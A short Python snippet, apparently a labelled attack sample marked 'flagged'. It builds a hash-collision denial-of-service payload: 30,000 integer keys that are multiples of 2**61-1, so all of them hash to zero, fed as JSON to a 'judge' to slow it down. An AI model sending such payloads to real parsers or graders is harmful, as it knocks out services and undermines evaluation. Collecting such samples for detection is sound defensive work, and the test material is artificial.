# tries: to make the judge slow by numbers of one hash as keys
# verdict: flagged
# prelude: forging
keys = ",".join("[%d,0]" % (i * (2**61 - 1)) for i in range(1, 30_000))


def attack(x):
    tree('{"d":[%s]}' % keys)
